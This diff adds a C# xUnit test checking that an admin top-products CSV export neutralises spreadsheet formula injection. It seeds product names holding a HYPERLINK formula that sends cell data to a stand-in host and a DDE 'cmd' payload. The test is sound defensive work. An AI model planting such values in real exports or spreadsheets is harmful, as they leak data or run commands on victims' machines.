@@ -82,6 +82,37 @@ public sealed class ReportsApiTests(ApiTestHost host) : IClassFixture<ApiTestHos
         Assert.Equal("payment_method,orders,net_revenue,revenue_share_pct\r\nPix,1,123.45,100.00\r\n", await response.Content.ReadAsStringAsync());
     }
 
+    [Fact]
+    public async Task Csv_export_neutralises_product_names_that_are_formulas()
+    {
+        const string name = "=HYPERLINK(\"http://x.example/?\"&A1,\"clique\")";
+        await host.Database.ExecuteAsync("""
+            insert into products (name, slug, sku, price, cost_price)
+            select '=HYPERLINK("http://x.example/?"&A1,"clique")', 'csv-formula', 'CSV-FORMULA', 10, 5
+            where not exists (select 1 from products where sku = 'CSV-FORMULA');
+            insert into products (name, slug, sku, price, cost_price)
+            select '-2+3+cmd|'' /C calc''!A0', 'csv-minus', 'CSV-MINUS', 5, 2
+            where not exists (select 1 from products where sku = 'CSV-MINUS');
+            insert into orders (order_number, user_id, status, subtotal, total_amount, created_at, paid_at)
+            select 'RPT-API-CSV', u.id, 'paid', 15, 15, '2026-05-01 15:00+00', '2026-05-01 15:05+00'
+            from users u where u.email = 'relatorio@example.com.br'
+              and not exists (select 1 from orders where order_number = 'RPT-API-CSV');
+            insert into order_items (order_id, product_id, quantity, unit_price, total_price)
+            select o.id, p.id, 1, p.price, p.price from orders o, products p
+            where o.order_number = 'RPT-API-CSV' and p.sku in ('CSV-FORMULA', 'CSV-MINUS')
+              and not exists (select 1 from order_items where order_id = o.id);
+            """);
+        using var admin = await host.CreateSignedInClientAsync("admin");
+
+        using var response = await admin.Http.GetAsync("/api/admin/reports/top-products?from=2026-05-01&to=2026-05-02&tz=Etc/UTC&format=csv");
+
+        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
+        var csv = await response.Content.ReadAsStringAsync();
+        Assert.Contains(",CSV-FORMULA,\"'" + name.Replace("\"", "\"\"", StringComparison.Ordinal) + "\",", csv);
+        Assert.Contains(",CSV-MINUS,'-2+3+cmd|' /C calc'!A0,", csv);
+        Assert.DoesNotContain(",\"=", csv);
+    }
+
     [Theory]
     [InlineData("from=2026-03-02&to=2026-03-01", "to")]
     [InlineData("from=2020-01-01&to=2026-01-01", "to")]
